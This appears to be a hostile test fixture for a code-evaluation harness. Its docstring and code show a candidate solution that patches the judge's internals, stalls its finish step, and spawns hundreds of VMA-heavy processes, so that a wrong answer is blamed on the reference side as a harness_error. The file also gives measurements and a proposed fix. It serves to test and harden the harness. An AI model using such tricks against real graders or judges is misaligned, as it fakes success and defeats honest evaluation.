"""Attack (all-reduce): turn a sure FAIL into a harness_error ("our fault"), by running the
reference side out of its total time.

Both sides get the same total allowance (``Limits.total_s``, cut to the worker's deadline by
``api.side_limits``), counted from each side's own start, and a side's allowance is only checked
while the judge polls that side. The candidate's side starts first, the reference's a moment
later (its sandbox is set up after the candidate's), and after the timed rounds the judge waits
for the candidate's ``finish``, kills it, and only then has the reference recompute the trials and
the drawn calls (seconds of work). So a candidate that stretches its ``finish`` until just before
its own allowance ends is never caught by it, and the reference, commanded next, runs past its
allowance while it works: the reference's ``over_total`` becomes a deadlock of the reference side,
which ``side_diagnosis`` reports as ``harness_error``. No answer is ever compared (the comparison
comes after the reference's recomputation), so the candidate's wrong answers (each call returns
its own input, unreduced: a value mismatch) never show.

The candidate knows when its side started well enough: its init (PID 1 of the side) started
within milliseconds of the judge's clock for the side (``/proc/1/stat``). ``TOTAL_S`` is the
allowance: 900 s without a deadline; here the demo runs with ``--deadline 60`` (total 55 s).

Command: .venv/bin/python -m evaluator.cli eval --problem all-reduce \
    --solution tests/evaluator/hostile/blames_the_reference.py --world-size 2 --device cpu --size small --deadline 60

To make sure the reference runs out, the candidate also makes the judge's end of its side slow:
at ``finish`` it starts 200 processes per rank (one helper builds ~64,000 VMAs, then forks the rest),
and the rank's own clean-up (``rank_main._end_descendants``) is replaced, so they are still alive
when the judge ends the side (``SideRun.end`` -> the init's ``kill_everyone``): their teardown
took ~20 s of the judge's time, after the candidate's last poll and before the reference's
finish, on nobody's allowance but the reference's.

Measured 2026-11-28, sandbox on, ``--deadline 60``: three runs, each "verdict: FAIL / failure:
harness_error: the side ran past its time limit of 55 s; ranks 0, 1 in finish" (the reference),
wall 77-79 s (the candidate's side took 75.6-78.0 s, ~20 s of it in the judge's end of it). The
same answers without the attack: value_mismatch. Earlier attempts show the window: without the
slow teardown (``--deadline 60``, finish held to 1 s before the allowance) the reference finished
in time and the verdict was value_mismatch; with helpers started at import, the freezes and
scans of 400 more processes made the candidate miss its own allowance (deadlock, the candidate's).

Fix: the reference's recomputation must not run on an allowance the candidate can spend. Give
the reference side no total of its own while the judge drives it (its commands have deadlines:
``step_s`` x the trials and re-checks for ``finish``), and enforce the evaluation's deadline in the
judge, where running out after the candidate's phases is the candidate's (or a neutral
"deadline" verdict), never ``harness_error``. The time the judge spends ending the candidate's
side (``SideRun.end``) is the candidate's; ``kill_everyone`` should also be bounded per side
(the cgroup's ``cgroup.kill`` ends a side at once where there is a cgroup).
"""

import os
import subprocess
import sys
import time

TOTAL_S = 60 - 5.1  # --deadline 60: api.side_limits gives each side what is left less 5 s
MARGIN_S = 1.5
HELPERS = 200  # per rank: processes whose deaths, when the judge kills the side, take seconds
_patched = False

# One helper maps a region and mprotects every other page: ~64,000 VMAs, no resident memory
# (tearing them down when a process is killed takes the kernel ~15-30 ms, dies_while_frozen.py),
# then forks the others, which inherit the mapping (a fork copies the VMAs in ~20 ms).
HELPER = r"""
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
N = 32000
base = libc.mmap(None, N * 2 * 4096, 3, 0x22, -1, 0)
for i in range(N):
    libc.mprotect(base + 2 * i * 4096, 4096, 1)
for _ in range(int(sys.argv[2]) - 1):
    if os.fork() == 0:
        while True:
            signal.pause()
os.write(int(sys.argv[1]), b"r")
while True:
    signal.pause()
"""


def _start_helpers():
    ready_r, ready_w = os.pipe()
    subprocess.Popen([sys.executable, "-I", "-S", "-c", HELPER, str(ready_w), str(HELPERS)], pass_fds=(ready_w,),
                     stdin=subprocess.DEVNULL)
    os.close(ready_w)
    os.read(ready_r, 1)


def _side_started():
    with open("/proc/1/stat", "rb") as handle:
        fields = handle.read().rsplit(b")", 1)[1].split()
    started_since_boot = int(fields[19]) / os.sysconf("SC_CLK_TCK")
    return started_since_boot - (time.clock_gettime(time.CLOCK_BOOTTIME) - time.monotonic())


def _patch():
    from evaluator import rank_main, rank_timing

    # The rank kills its own descendants as it exits (still on the candidate's allowance): leave
    # them to the side's init, which kills them when the judge ends the side.
    rank_main._end_descendants = lambda: None

    original = rank_timing.CommandReader.next
    target = _side_started() + TOTAL_S - MARGIN_S

    def next_command(self):
        command = original(self)
        if command.get("cmd") == "finish":
            _start_helpers()  # now: alive while timed, they would slow every freeze and scan
            time.sleep(max(0.0, target - time.monotonic()))
        return command

    rank_timing.CommandReader.next = next_command


def solution(x, *, group):
    global _patched
    if not _patched:
        _patched = True
        _patch()
    return x.clone()
